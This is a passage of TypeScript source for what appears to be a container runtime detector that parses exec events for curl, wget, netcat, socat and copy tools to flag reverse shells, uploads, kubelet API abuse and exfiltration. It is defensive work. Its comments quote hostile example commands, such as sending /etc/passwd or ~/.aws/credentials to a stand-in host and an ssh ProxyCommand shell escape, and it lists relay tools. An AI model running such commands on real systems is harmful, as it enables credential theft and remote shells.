      targets.hosts.length > 0 &&
      [...targets.hosts, ...targets.via].every((host) => isExemptTarget(host))
    ) {
      benign = `every target is loopback or motd.ubuntu.com (${quote(unique(targets.hosts).join(", "))})`;
    }
  }
  return { candidate, severity, reasons, ...(benign !== undefined ? { benign } : {}) };
}

/**
 * The command of an ancestor's script that started the event's process: a segment below the top
 * level running the same utility with the same arguments (word boundaries aside).
 */
function sameCommandInAncestors(candidate: Candidate, context: AncestorContext): CommandSegment | undefined {
  const want = candidate.words.slice(1).join(" ");
  for (const segment of context.segments) {
    if (segment.depth === 0) continue;
    const words = commandWords(segment.argv);
    const head = words[0];
    if (head === undefined || !sameTool(lookupCommand(head)?.name, candidate.utility.name)) continue;
    if (words.slice(1).join(" ") === want) return segment;
  }
  return undefined;
}

const S6_SERVICE_SCRIPT =
  /^\/(?:var\/)?run\/(?:s6-rc\/servicedirs|service|s6\/services|s6\/legacy-services|s6\/db\/servicedirs)\/[A-Za-z0-9@._-]+\/(?:run|finish|data\/check)$/;
const ACME_SH = /^(?:\/root|\/home\/[A-Za-z0-9._-]+)\/\.acme\.sh\/acme\.sh$/;
const WAIT_FOR_IT = /^\/home\/[A-Za-z0-9._-]+\/(?:[A-Za-z0-9._-]+\/){0,3}wait-for(?:-it)?(?:\.sh)?$/;
const CRON = new Set(["cron", "crond", "supercronic", "busybox"]);

/**
 * Service scripts that live in writable places by design, each recognised narrowly (README "Quiet
 * defaults"): an s6-overlay service's `run`/`finish` under /run supervised by s6-supervise; acme.sh's
 * certificate renewal from ~/.acme.sh started by cron, fetching with curl or wget; wait-for-it.sh in
 * an application's WORKDIR under /home checking a port with `nc -z host port`. Only the location
 * indicator of that one ancestor is waived; every other indicator still counts.
 */
function knownServiceScript(
  path: string,
  above: { path?: string; name?: string }[],
  utility: string,
  args: readonly string[],
): string | undefined {
  const names = above.map((a) => executableName(a.path ?? a.name ?? ""));
  if (S6_SERVICE_SCRIPT.test(path) && names[0] === "s6-supervise") return "an s6-overlay service script";
  if (ACME_SH.test(path) && (utility === "curl" || utility === "wget") && names.some((n) => CRON.has(n))) {
    return "acme.sh renewing certificates from cron";
  }
  if (WAIT_FOR_IT.test(path) && NETCATS.has(utility) && isPortCheck(args))
    return "wait-for-it.sh checking a port";
  return undefined;
}

/** `nc -z [-v] [-w N] HOST PORT`: a port check and nothing else. */
function isPortCheck(args: readonly string[]): boolean {
  let zero = false;
  const operands: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const arg = args[i]!;
    if (/^-[zv]+$/.test(arg)) zero ||= arg.includes("z");
    else if (arg === "-w") i++;
    else if (/^-w\d+$/.test(arg)) continue;
    else if (arg.startsWith("-")) return false;
    else operands.push(arg);
  }
  return zero && operands.length === 2 && /^\d{1,5}$/.test(operands[1]!);
}

/** Segments below the top level of the ancestors' command lines that run the same tool, at most 64. */
function writtenInAncestors(candidate: Candidate, context: AncestorContext): CommandSegment[] {
  const out: CommandSegment[] = [];
  for (const segment of context.segments) {
    if (segment.depth === 0) continue;
    const head = commandWords(segment.argv)[0];
    if (head === undefined || !sameTool(lookupCommand(head)?.name, candidate.utility.name)) continue;
    out.push(segment);
    if (out.length >= 64) break;
  }
  return out;
}

/** The encoding of a decoded script that `segment` runs in, looking up its payload chain. */
function decodedStageOf(segment: CommandSegment): string | undefined {
  for (let node: CommandSegment | undefined = segment, k = 0; node !== undefined && k < 16; k++) {
    const runner: CommandSegment | undefined = node.payloadOf;
    if (runner?.decodedStage !== undefined) return runner.decodedStage;
    node = runner ?? node.substitutionOf?.segment;
  }
  return undefined;
}

/**
 * Calls of the kubelet's API (port 10250, read-only 10255) by a download tool: `/run/…` and `/exec/…`
 * run commands in other pods' containers (Microsoft's threat matrix for Kubernetes, MITRE T1609);
 * `/pods`, `/runningpods` and `/configz` list what runs on the node. Health checks are left alone.
 */
function kubeletCall(name: string, parsed: ParsedArgs): Indicator | undefined {
  if (name !== "curl" && name !== "wget" && name !== "wget2") return undefined;
  for (const operand of [...parsed.operands, ...options(parsed, "--url").map((o) => o.value ?? "")]) {
    const match = /^(?:https?:\/\/)?(?:\[[^\]]+\]|[^/:?#]+):(10250|10255)(\/[^?#]*)?/i.exec(operand);
    if (match === null) continue;
    const path = match[2] ?? "/";
    if (/^\/(?:run|exec|attach|portForward|cri)\//i.test(path)) {
      return {
        severity: "critical",
        reason: `${name} runs a command through the kubelet API (${quote(operand)})`,
      };
    }
    if (/^\/(?:pods|runningpods|configz|debug|containerLogs|logs)(?:\/|$)/i.test(path)) {
      return { severity: "high", reason: `${name} queries the kubelet API (${quote(operand)})` };
    }
  }
  return undefined;
}

const RELAYS = new Set([
  "nc",
  "nc.openbsd",
  "nc.traditional",
  "netcat",
  "ncat",
  "cryptcat",
  "socat",
  "telnet",
]);

/**
 * A shell that reads its commands from its input (no `-c`, no script file): `sh -i`, `/bin/bash`.
 * Its output piped into a relay is a shell session carried over the network.
 */
function interactiveShell(segment: CommandSegment): string | undefined {
  const words = commandWords(segment.argv);
  const head = words[0];
  if (head === undefined || !isShell(head) || shellPayload(words) !== undefined) return undefined;
  for (let i = 1; i < words.length; i++) {
    const word = words[i]!;
    if (word === "-o" || word === "+o" || word === "-O" || word === "--rcfile" || word === "--init-file") i++;
    else if (!/^[-+]/.test(word) || word === "-" || word === "--") return undefined;
  }
  return words.join(" ");
}

/** The interactive shell whose output reaches `segment` through pipes, as written. */
function relayedShell(segment: CommandSegment): string | undefined {
  for (let node = segment.pipedFrom, k = 0; node !== undefined && k < 4096; node = node.pipedFrom, k++) {
    const shell = interactiveShell(node);
    if (shell !== undefined) return shell;
  }
  return undefined;
}

// Commands that print a file named among their operands (base64, xxd… also encode it on the way).
const FILE_PRINTERS = new Set([
  "cat",
  "tac",
  "head",
  "tail",
  "base64",
  "base32",
  "basenc",
  "xxd",
  "od",
  "hexdump",
  "strings",
  "gzip",
  "bzip2",
  "xz",
  "zstd",
  "zcat",
]);

/** Whether `tar`'s words create an archive (`tar czf - /root`, `tar -c …`, `tar --create`). */
function tarMode(words: readonly string[], mode: "c" | "x"): boolean {
  const long = mode === "c" ? "--create" : "--extract";
  return words.slice(1).some((word, i) => {
    if (word === long || (mode === "x" && word === "--get")) return true;
    if (word.startsWith("--")) return false;
    // Old style (`tar czf`) only as the first word; dashed clusters (`-czf`) anywhere.
    return (word.startsWith("-") || i === 0) && /^-?[A-Za-z]+$/.test(word) && word.includes(mode);
  });
}

/** A command up `segment`'s pipeline that reads files and prints them, as written: `cat /etc/passwd`. */
function pipedFiles(segment: CommandSegment): string | undefined {
  for (let node = segment.pipedFrom, k = 0; node !== undefined && k < 4096; node = node.pipedFrom, k++) {
    const words = commandWords(node.argv);
    const head = words[0];
    if (head === undefined) continue;
    // What a shell or interpreter prints is its own output, not the file it was fed.
    if (interpreterOf(node) !== undefined) return undefined;
    const tool = executableName(head);
    const reads =
      (FILE_PRINTERS.has(tool) && words.slice(1).some((w) => !w.startsWith("-"))) ||
      (tool === "tar" && tarMode(words, "c")) ||
      (tool === "dd" && words.some((w) => w.startsWith("if="))) ||
      node.redirects.some((r) => r.op === "<" && r.target !== "/dev/null");
    if (reads) return words.join(" ");
  }
  return undefined;
}

const VERSION_OR_HELP = new Set(["--version", "-V", "-version", "--help", "-h", "-help", "-?"]);

function feedsCategory(utility: Utility): boolean {
  return utility.category === "download" || utility.category === "relay" || utility.category === "dns";
}

/** The process's ancestry as far as the event shows it, nearest first (payload shells first in a session). */
function lineageOf(candidate: Candidate, event: ExecEvent): { path?: string; name?: string }[] {
  const out: { path?: string; name?: string }[] = [];
  for (let shell = candidate.segment?.payloadOf, k = 0; shell !== undefined && k < 16; k++) {
    const head = shell.argv[commandStart(shell.argv)] ?? shell.argv[0];
    if (head !== undefined) out.push(head.includes("/") ? { path: head } : { name: head });
    shell = shell.payloadOf;
  }
  for (const ancestor of ancestorList(event)) {
    if (ancestor === null || typeof ancestor !== "object") continue;
    const path = text(ancestor.path);
    const name = text(ancestor.name);
    // A name only counts as a place when it carries one (memfd:…, a path, " (deleted)").
    out.push({ ...(path !== undefined ? { path } : {}), ...(name !== undefined ? { name } : {}) });
  }
  return out;
}

function option(parsed: ParsedArgs, ...names: string[]): ParsedOption | undefined {
  return parsed.options.find((o) => names.includes(o.name));
}

function options(parsed: ParsedArgs, ...names: string[]): ParsedOption[] {
  return parsed.options.filter((o) => names.includes(o.name));
}

const NETCATS = new Set(["nc", "nc.openbsd", "nc.traditional", "netcat", "ncat", "cryptcat"]);

/** The option that makes the utility run a command or shell, as written; undefined when none does. */
function executesCommand(name: string, parsed: ParsedArgs): string | undefined {
  if (NETCATS.has(name)) {
    return option(parsed, "-e", "-c", "--exec", "--sh-exec", "--lua-exec")?.written;
  }
  if (name === "socat") {
    for (const operand of parsed.operands) {
      for (const address of operand.split("!!")) {
        if (/^\s*(?:exec|system|shell)\s*:/i.test(address)) return address;
      }
    }
    return undefined;
  }
  if (name === "tcpdump") return option(parsed, "-z")?.written;
  if (name === "aria2c") {
    return parsed.options.find((o) => /^--on-(?:bt-)?download-/.test(o.name) && o.value !== undefined)
      ?.written;
  }
  if (name === "wget" || name === "wget2") {
    // --use-askpass=COMMAND runs COMMAND to ask for credentials; `-e use_askpass=…` is the same.
    const askpass = option(parsed, "--use-askpass");
    if (askpass?.value !== undefined && askpass.value !== "") return askpass.written;
    return options(parsed, "-e", "--execute").find((o) => /^\s*use_?askpass\s*=\s*\S/i.test(o.value ?? ""))
      ?.written;
  }
  if (name === "scp" || name === "sftp" || name === "rsync") {
    // ssh's ProxyCommand/LocalCommand/KnownHostsCommand are run by a local shell (GTFOBins scp, sftp).
    const ssh = sshCommandOption(parsed);
    if (ssh !== undefined) return ssh;
  }
  if (name === "sftp") {
    // -S runs another program in place of ssh, -D a local sftp server (GTFOBins sftp).
    const program = option(parsed, "-S", "-D");
    const first = program?.value?.trim().split(/\s+/)[0];
    if (first !== undefined && !/^(?:ssh|sftp-server)$/.test(executableName(first))) return program?.written;
    return undefined;
  }
  if (name === "rsync" || name === "scp") {
    // The "remote shell" is normally ssh; any other program (sh -c …) is a local command run by the tool.
    const shell = option(parsed, name === "rsync" ? "-e" : "-S", "--rsh");
    const program = shell?.value?.trim().split(/\s+/)[0];
    if (program !== undefined && !/^(?:ssh|rsh|autossh|dbclient)$/.test(executableName(program))) {
      return shell?.written;
    }
    return undefined;
  }
  if (name === "lftp") {
    return options(parsed, "-c", "-e").find((o) => /(?:^|;)\s*!/.test(o.value ?? ""))?.written;
  }
  return undefined;
}

/** An ssh `-o` option that runs a local command: `-o ProxyCommand=;sh 0<&2 1>&2`, `-oLocalCommand=…`. */
function sshCommandOption(parsed: ParsedArgs): string | undefined {
  for (const o of options(parsed, "-o")) {
    const match =
      /^\s*(ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)\s*[=\s]\s*(.*)$/i.exec(
        o.value ?? "",
      );
    if (match === null) continue;
    const key = match[1]!.toLowerCase();
    const value = match[2]!.trim();
    if (key === "permitlocalcommand" || value === "" || value.toLowerCase() === "none") continue;
    // `ProxyCommand ssh -W %h:%p bastion` (and `nc %h %p`) is the ordinary jump host.
    if (key === "proxycommand" && /^(?:\S*\/)?(?:ssh|nc|ncat|netcat|connect-proxy|corkscrew)\s/.test(value))
      continue;
    return o.written;
  }
  return undefined;
}

interface Targets {
  /** Hosts, IP addresses and DNS names the invocation connects to or queries. */
  hosts: string[];
  /** Proxies and address overrides the traffic goes through; not reported, but they void the exemption. */
  via: string[];
  /** False when the tool talks to a default server that no argument shows (whois without -h). */
  exemptable: boolean;
}

const DNS_TYPES = new Set(
  "a aaaa any axfr caa cname dnskey ds hinfo https ixfr mx naptr ns nsec nsec3 ptr rrsig soa spf srv sshfp svcb tlsa txt in ch hs chaos hesiod".split(
    " ",
  ),
);

function hostsOf(values: (string | undefined)[]): string[] {
  const out: string[] = [];
  for (const value of new Set(values)) {
    if (value === undefined) continue;
    const host = hostOf(value);
    if (host !== undefined) out.push(host);
  }
  return out;
}

/** The host part of a remote-copy operand (`user@host:path`, `host::module`, `scp://host/…`), if remote. */
function remoteHost(operand: string): string | undefined {
  if (/^(?:scp|sftp|rsync):\/\//i.test(operand)) return hostOf(operand);
  if (/^[/.~]/.test(operand)) return undefined;
  const match = /^(?:[^@/:]+@)?(\[[^\]]+\]|[^/:[\]]+):/.exec(operand);
  if (match === null) return undefined;
  return match[1]!.replace(/^\[|\]$/g, "");
}

const SOCAT_NETWORK =
  /^(?:(?:tcp|udp|sctp|dccp)[46]?(?:-connect|-sendto|-datagram|-listen|-l|-recv|-recvfrom)?|openssl(?:-connect|-listen)?|ssl(?:-connect)?|socks[45]a?(?:-connect)?|proxy(?:-connect)?|vsock(?:-connect)?)$/;

/**
 * The file addresses of a socat invocation and which way data flows through them (GTFOBins socat
 * file-download `open:FILE,creat`, file-upload `file:FILE`): with -u data goes from the first address to
 * the second, with -U the other way, else both ways. Only when the other address is a network one.
 */
function socatFiles(parsed: ParsedArgs): { receives: string[]; sends: string[] } {
  const out = { receives: [] as string[], sends: [] as string[] };
  const addresses = parsed.operands.slice(0, 2).map((operand) => operand.split("!!")[0] ?? "");
  if (addresses.length < 2) return out;
  const kind = (address: string): { file?: string; network: boolean; createOnly?: boolean } => {
    const colon = address.indexOf(":");
    const type = colon === -1 ? "" : address.slice(0, colon).toLowerCase();
    if (colon === -1 || type.includes("/")) {
      // A bare path is GOPEN.
      return address.includes("/") ? { file: address.split(",")[0]!, network: false } : { network: false };
    }
    const params = address.slice(colon + 1).split(",")[0] ?? "";
    if (/^(?:open|file|gopen)$/.test(type)) return { file: params, network: false };
    // CREATE truncates its file: data only goes into it.
    if (/^creat(?:e)?$/.test(type)) return { file: params, network: false, createOnly: true };
    return { network: SOCAT_NETWORK.test(type) };
  };
  const [left, right] = [kind(addresses[0]!), kind(addresses[1]!)];
  const forward = option(parsed, "-U") === undefined;
  const backward = option(parsed, "-u") === undefined;
  const flow = (from: typeof left, to: typeof right) => {
    if (from.network && to.file !== undefined) out.receives.push(to.file);
    if (from.file !== undefined && to.network && from.createOnly !== true) out.sends.push(from.file);
  };
  if (forward) flow(left, right);
  if (backward) flow(right, left);
  return out;
}

function socatTargets(parsed: ParsedArgs): { hosts: string[]; via: string[] } {
  const hosts: string[] = [];
  const via: string[] = [];
  for (const operand of parsed.operands) {
    for (const address of operand.split("!!")) {
      const colon = address.indexOf(":");
      if (colon === -1) continue;
      const type = address.slice(0, colon).toLowerCase();
      const params = address.slice(colon + 1).split(",")[0] ?? "";
      const host = /^\[([^\]]*)\]/.exec(params)?.[1] ?? params.split(":")[0] ?? "";
      if (
        /^(?:tcp|udp|sctp|dccp)[46]?(?:-connect|-sendto|-datagram)?$|^(?:openssl|ssl)(?:-connect)?$/.test(
          type,
        )
      ) {
        if (host !== "") hosts.push(host);
      } else if (/^(?:socks[45]a?|proxy)(?:-connect)?$/.test(type)) {
        if (host !== "") via.push(host);
        const target = params.split(":")[1];
        if (target !== undefined && target !== "") hosts.push(target);
      }
    }
  }
  return { hosts, via };
}

function targetsOf(name: string, utility: Utility, parsed: ParsedArgs): Targets {
  const none: Targets = { hosts: [], via: [], exemptable: true };
  const operands = parsed.operands;
  switch (name) {
    case "curl": {
      const via: string[] = [];
      for (const o of options(parsed, "-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5")) {
        if (o.value !== undefined) via.push(...hostsOf([o.value]));
      }
      for (const o of options(parsed, "--socks5-hostname")) via.push(...hostsOf([o.value]));
      for (const o of options(parsed, "--resolve", "--connect-to")) {
        // HOST:PORT:ADDRESS (resolve) or HOST1:PORT1:HOST2:PORT2 (connect-to): the traffic goes to the third field.
        const third = o.value?.replace(/^\+/, "").split(":").slice(2).join(":");
        const address = o.name === "--connect-to" ? third?.replace(/:\d*$/, "") : third;
        if (address) via.push(address.replace(/^\[|\]$/g, ""));
      }
      // A Unix socket (the Docker or containerd API) is no loopback host, whatever the URL says.
      for (const o of options(parsed, "--unix-socket", "--abstract-unix-socket")) {
        if (o.value !== undefined) via.push(`unix:${o.value}`);
      }
      const urls = options(parsed, "--url").map((o) => o.value);
      return { hosts: hostsOf([...operands, ...urls]), via, exemptable: true };
    }
    case "whois": {
      const server = option(parsed, "-h")?.value;
      return server === undefined ? { ...none, exemptable: false } : { ...none, hosts: hostsOf([server]) };
    }
    case "tftp":
    case "ftp":
    case "ftpget":
    case "ftpput":
    case "ncftpget":
    case "ncftpput":
    case "lwp-download":
      return { ...none, hosts: hostsOf([operands[0]]) };
    case "dig":
    case "kdig":
    case "delv":
    case "drill": {
      const hosts: string[] = [];
      for (const operand of operands) {
        if (operand.startsWith("@")) hosts.push(...hostsOf([operand.slice(1)]));
        else if (!DNS_TYPES.has(operand.toLowerCase())) hosts.push(operand);
      }
      for (const o of options(parsed, "-q", "-x")) if (o.value !== undefined) hosts.push(o.value);
      return { ...none, hosts };
    }
    case "host":
    case "nslookup":
      return { ...none, hosts: operands.filter((o) => o !== "-").slice(0, 2) };
    case "socat":
      return { ...socatTargets(parsed), exemptable: true };
    case "rustscan":
    case "naabu": {
      const listed = options(parsed, "-a", "--addresses", "-host").flatMap((o) => (o.value ?? "").split(","));
      return { ...none, hosts: hostsOf([...listed, ...operands]) };
    }
    case "masscan": {
      const ranges = options(parsed, "--range").map((o) => o.value);
      return { ...none, hosts: hostsOf([...ranges, ...operands]) };
    }
    default:
      break;
  }
  if (NETCATS.has(name) || name === "telnet") {
    const via = hostsOf(options(parsed, "-x", "--proxy").map((o) => o.value));
    return { hosts: hostsOf(operands), via, exemptable: true };
  }
  switch (utility.category) {
    case "remote-copy": {
      const hosts: string[] = [];
      for (const operand of operands) {
        const host = name === "sftp" ? hostOf(operand) : remoteHost(operand);
        if (host !== undefined) hosts.push(host);
      }
      return { ...none, hosts };
    }
    case "sniffer":
      return none;
    default:
      return { ...none, hosts: hostsOf(operands) };
  }
}

/**
 * The host part of an operand that holds a command substitution, with the substitution kept whole:
 * `http://$(cat /etc/passwd | base64).evil.tld/x` -> `$(cat /etc/passwd | base64).evil.tld`.
 */
function substitutedHost(operand: string): string | undefined {
  if (!operand.includes("$(") && !operand.includes("`")) return undefined;
  const text = operand.length > 4096 ? operand.slice(0, 4096) : operand;
  const start = /^[a-z][a-z0-9+.-]*:\/\//i.exec(text)?.[0].length ?? 0;
  let depth = 0;
  let tick = false;
  let end = start;
  for (; end < text.length; end++) {
    const c = text[end]!;
    if (c === "$" && text[end + 1] === "(") {
      depth++;
      end++;
    } else if (c === ")" && depth > 0) depth--;
    else if (c === "`") tick = !tick;
    else if (depth === 0 && !tick && (c === "/" || c === "?" || c === "#" || c === ":" || c === "@")) break;
  }
  return text.slice(start, end);
}

const DATA_OPTIONS = new Set([
  "-d",
  "--data",
  "--data-ascii",
  "--data-binary",
  "--data-raw",
  "--data-urlencode",
  "--json",
  "-F",
  "--form",
  "--form-string",
  "--post-data",
  "--body-data",
]);

// A command substitution that reads files or the environment: `$(cat ~/.aws/credentials)`, `$(< f)`.
const READS_FILES =
  /(?:\$\(|`)\s*(?:<|(?:cat|tac|head|tail|base64|base32|xxd|od|hexdump|strings|gzip|bzip2|xz|zstd|tar|env|printenv)\b)/;

interface Output {
  path: string;
  /** The path is a directory the tool writes into (the working directory, -P, --output-dir). */
  directory: boolean;
  why: string;
}

const NOT_FILES = new Set(["-", "/dev/null", "/dev/stdout", "/dev/stderr"]);

/** Where the invocation writes what it downloads. */
function downloadOutputs(name: string, parsed: ParsedArgs, segment: CommandSegment | undefined): Output[] {
  const out: Output[] = [];
  const file = (path: string | undefined, why: string) => {
    if (path !== undefined && path !== "" && !NOT_FILES.has(path)) out.push({ path, directory: false, why });
  };
  const dir = (path: string | undefined, why: string) => {
    if (path !== undefined && path !== "") out.push({ path, directory: true, why });
  };
  const inCwd = "working directory";
  // Files named after the URL, written into `directory` (curl -O, wget without -O).
  const into = (directory: string, why: string) => {
    let named = false;
    for (const operand of parsed.operands) {
      const fileName = /^[a-z][a-z0-9+.-]*:\/\/[^/?#]*\/(?:[^?#]*\/)?([^/?#]+)(?:[?#]|$)/i.exec(operand)?.[1];
      if (fileName === undefined || fileName === "." || fileName === "..") continue;
      file(directory === "." ? fileName : `${directory}/${fileName}`, why);
      named = true;
    }
    if (!named) dir(directory, why);
  };
  const operands = parsed.operands;
  switch (name) {
    case "curl": {
      const outputDir = option(parsed, "--output-dir")?.value;
      for (const o of options(parsed, "-o", "--output")) {
        const value = o.value;
        if (value === undefined || NOT_FILES.has(value)) continue;
        file(outputDir !== undefined && !value.startsWith("/") ? `${outputDir}/${value}` : value, o.written);
      }
      if (option(parsed, "-O", "--remote-name", "--remote-name-all") !== undefined) {
        into(outputDir ?? ".", outputDir !== undefined ? "--output-dir" : inCwd);
      }
      break;
    }
    case "wget":
    case "wget2": {
      const document = options(parsed, "-O", "--output-document");
      for (const o of document) file(o.value, o.written);
      if (document.length === 0 && option(parsed, "--spider") === undefined && operands.length > 0) {
        const prefix = option(parsed, "-P", "--directory-prefix");
        if (prefix?.value !== undefined) into(prefix.value, prefix.written);
        else into(".", inCwd);
      }
      break;
    }
    case "aria2c": {
      const target = option(parsed, "-d", "--dir")?.value;
      const named = option(parsed, "-o", "--out")?.value;
      if (named !== undefined) file(target !== undefined ? `${target}/${named}` : named, "-o");
      else dir(target ?? ".", target !== undefined ? "-d" : inCwd);
      break;
    }
    case "axel": {
      const named = option(parsed, "-o", "--output");
      if (named !== undefined) file(named.value, named.written);
      else into(".", inCwd);
      break;
    }
    case "lwp-download":
      if (operands[1] !== undefined) file(operands[1], operands[1]);
      else into(".", inCwd);
      break;
    case "tftp": {
      const rest = option(parsed, "-c")?.value ?? "";
      if (option(parsed, "-g") !== undefined || /^get\b/.test(rest)) {
        const local = option(parsed, "-l")?.value;
        if (local !== undefined) file(local, "-l");
        else dir(".", inCwd);
      }
      break;
    }
    case "ftpget":
      if (operands.length >= 3) file(operands[1], operands[1]!);
      else dir(".", inCwd);
      break;
    case "ncftpget":
      if (operands[0] !== undefined && /^[a-z]+:\/\//i.test(operands[0])) into(".", inCwd);
      else if (operands[1] !== undefined) dir(operands[1], operands[1]);
      break;
    case "socat":
      for (const path of socatFiles(parsed).receives) file(path, path);
      break;
    case "sftp": {
      // `sftp host:remote local` fetches remote into local (Atomic T1105 sftp pull).
      if (operands.length >= 2 && hostOf(operands[0]!) !== undefined && /:./.test(operands[0]!)) {
        file(operands[1], operands[1]!);
      }
      for (const command of sftpBatch(segment)) {
        const [verb, remote, local] = command;
        if (verb === "get" || verb === "reget") {
          const target = local ?? (remote === undefined ? undefined : executableName(remote));
          if (target !== undefined) file(target, `${verb} ${remote}${local ? ` ${local}` : ""}`);
        }
      }
      break;
    }
    case "scp":
    case "rsync": {
      const destination = operands[operands.length - 1];
      if (
        destination !== undefined &&
        operands.length >= 2 &&
        remoteHost(destination) === undefined &&
        operands.slice(0, -1).some((o) => remoteHost(o) !== undefined)
      ) {
        file(destination, destination);
      }
      break;
    }
    default:
      break;
  }
  if (segment === undefined) return out;
  const redirected = (node: CommandSegment, via: string) => {
    for (const redirect of node.redirects) {
      if (
        STDOUT_REDIRECTS.has(redirect.op) &&
        !NOT_FILES.has(redirect.target) &&
        !/^&?\d+$/.test(redirect.target)
      ) {
        file(redirect.target, `${via}${redirect.op} ${redirect.target}`);
      }
    }
  };
  redirected(segment, "");
  if (redirectsStdout(segment)) return out;
  // Down the pipeline the data keeps its way into files: `| tee f`, `| gunzip > f`, `| tar xz -C dir`.
  for (let next = segment.pipesTo, k = 0; next !== undefined && k < 4096; next = next.pipesTo, k++) {
    const words = commandWords(next.argv);
    const tool = words[0] === undefined ? "" : executableName(words[0]);
    if (tool === "tee") {
      for (const word of words.slice(1)) if (!word.startsWith("-")) file(word, `| tee ${word}`);
    } else if (tool === "tar" && tarMode(words, "x")) {
      const at = words.findIndex((w) => w === "-C" || w === "--directory");
      const named = words.find((w) => w.startsWith("--directory="))?.slice("--directory=".length);
      const target = named ?? (at === -1 ? undefined : words[at + 1]);
      const where = target === undefined ? next.cwd : resolvePath(next.cwd, target);
      if (where !== undefined) dir(where, `| ${words.join(" ")}`);
    } else if (tool === "dd") {
      for (const word of words) if (word.startsWith("of=")) file(word.slice(3), `| ${word}`);
    }
    if (redirectsStdout(next)) {
      redirected(next, `| ${tool} `);
      break;
    }
    if (stdinRunner(next) !== undefined) break;
  }
  return out;
}

/** What the invocation sends out of the container, in words after the utility's name; undefined when nothing. */
function uploads(name: string, parsed: ParsedArgs, segment: CommandSegment | undefined): string | undefined {
  switch (name) {
    case "curl": {
      const upload = option(parsed, "-T", "--upload-file");
      if (upload?.value !== undefined) return `uploads a file (${quote(upload.written)})`;
      for (const o of options(
        parsed,
        "-d",
        "--data",
        "--data-ascii",
        "--data-binary",
        "--json",
        "--data-urlencode",
      )) {
        const value = o.value ?? "";
        const fromFile = value.startsWith("@") || (o.name === "--data-urlencode" && /^[^=]*@/.test(value));
        if (!fromFile) continue;
        return /@-$/.test(value)
          ? `uploads its standard input (${quote(o.written)})`
          : `uploads a file (${quote(o.written)})`;
      }
      const form = options(parsed, "-F", "--form").find((o) => /=\s*[@<]/.test(o.value ?? ""));
      if (form !== undefined) return `uploads a file (${quote(form.written)})`;
      return commandOutputSent(parsed);
    }
    case "wget":
    case "wget2": {
      const post = option(parsed, "--post-file", "--body-file");
      if (post !== undefined) return `uploads a file (${quote(post.written)})`;
      // -e runs a .wgetrc command: `-e post_file=/etc/passwd` is --post-file.
      const rc = options(parsed, "-e", "--execute").find((o) =>
        /^\s*(?:post|body)_?file\s*=/i.test(o.value ?? ""),
      );
      if (rc !== undefined) return `uploads a file (${quote(rc.written)})`;
      return commandOutputSent(parsed);
    }
    case "scp":
    case "rsync": {
      const operands = parsed.operands;
      const destination = operands[operands.length - 1];
      if (destination === undefined || operands.length < 2 || remoteHost(destination) === undefined)
        return undefined;
      if (!operands.slice(0, -1).some((o) => remoteHost(o) === undefined)) return undefined;
      return `copies local files to a remote host (${quote(destination)})`;
    }
    case "socat": {
      const sent = socatFiles(parsed).sends.find((path) => !NOT_FILES.has(path));
      if (sent !== undefined) return `sends a file (${quote(sent)})`;
      break;
    }
    case "sftp": {
      const put = sftpBatch(segment).find(([verb]) => verb === "put" || verb === "reput");
      if (put !== undefined) return `uploads a file (${quote(put.join(" "))})`;
      return undefined;
    }
    case "ftpput":
    case "ncftpput":
      return parsed.operands.length >= 2
        ? `uploads a file (${quote(parsed.operands.slice(1).join(" "))})`
        : undefined;
    case "tftp": {
      const rest = option(parsed, "-c")?.value ?? "";
      if (option(parsed, "-p") !== undefined || /^put\b/.test(rest)) {
        const local = option(parsed, "-l")?.value ?? rest.split(/\s+/)[1];
        return `uploads a file${local ? ` (${quote(local)})` : ""}`;
      }
      return undefined;
    }
    default:
      break;
  }
  if (RELAYS.has(name) && segment !== undefined) {
    const input = segment.redirects.find((r) => r.op === "<" && r.target !== "/dev/null");
    if (input !== undefined) return `sends a file (< ${quote(input.target)})`;
    const piped = pipedFiles(segment);
    if (piped !== undefined) return `sends a file (${quote(piped)} | ${name})`;
  }
  return undefined;
}

/**
 * Data or a URL made of a command substitution that reads files or the environment, as exec sessions
 * show it: `curl -d "$(cat ~/.aws/credentials)" x`, `wget "http://x/?d=$(env | base64)"`.
 */
function commandOutputSent(parsed: ParsedArgs): string | undefined {
  for (const o of parsed.options) {
    // Headers are left out: `-H "Authorization: Bearer $(cat …/serviceaccount/token)"` is how the
    // Kubernetes API is called from a pod, and a credential in a header is not data being carried away.
    if (!DATA_OPTIONS.has(o.name) || o.value === undefined || !READS_FILES.test(o.value)) continue;
    return `uploads command output (${quote(o.written)})`;
  }
  const operand = parsed.operands.find((value) => READS_FILES.test(value));
  return operand === undefined ? undefined : `sends command output in its URL (${quote(operand)})`;
}

/**
 * The batch commands an sftp reads from its input, when the command line shows them: a here-string
 * (`sftp host <<< $'put /tmp/x'`, Atomic T1105 sftp push) or an `echo`/`printf` piped into it. Each
 * command as its words (`["get", "/x", "/tmp/x"]`).
 */
function sftpBatch(segment: CommandSegment | undefined): string[][] {
  if (segment === undefined) return [];
  const texts = segment.redirects.filter((r) => r.op === "<<<").map((r) => r.target);
  const from = segment.pipedFrom;
  if (from !== undefined) {
    const words = commandWords(from.argv);
    if (words[0] === "echo" || words[0] === "printf")
      texts.push(words.slice(1).join(" ").replace(/\\n/g, "\n"));
  }
  const out: string[][] = [];
  for (const text of texts) {
    for (const line of text.slice(0, 64 * 1024).split(/[\n;]/)) {
      const words = line
        .trim()
        .split(/\s+/)
        .filter((w) => w !== "");
      if (words.length > 0 && words.length < 16) out.push(words);
    }
  }
  return out;
}

/** Each path the command lines execute, with the segments that execute it. */
type Executions = Map<string, CommandSegment[]>;

/**
 * Executions per candidate segment list: every candidate of an exec session shares its session's list,
 * so a script of thousands of downloads is read once instead of once per download (quadratic).
 */
type ExecutionsCache = Map<readonly CommandSegment[] | undefined, Executions>;

/** Paths that a command line executes: run as a command, or given to a shell/interpreter or `.`. */
function executionsOf(segments: readonly CommandSegment[]): Executions {
  const out: Executions = new Map();
  for (const segment of segments) {
    const words = commandWords(segment.argv);
    const head = words[0];
    if (head === undefined) continue;
    let target: string | undefined;
    if (head.includes("/")) target = head;
    else if (interpreterOf(segment) !== undefined && head !== "eval") {
      target = words.slice(1).find((w) => !w.startsWith("-"));
    }
    if (target === undefined) continue;
    const resolved = resolvePath(segment.cwd ?? UNKNOWN_DIR, target);
    if (resolved === undefined) continue;
    const runners = out.get(resolved);
    if (runners === undefined) out.set(resolved, [segment]);
    else runners.push(segment);
  }
  return out;
}
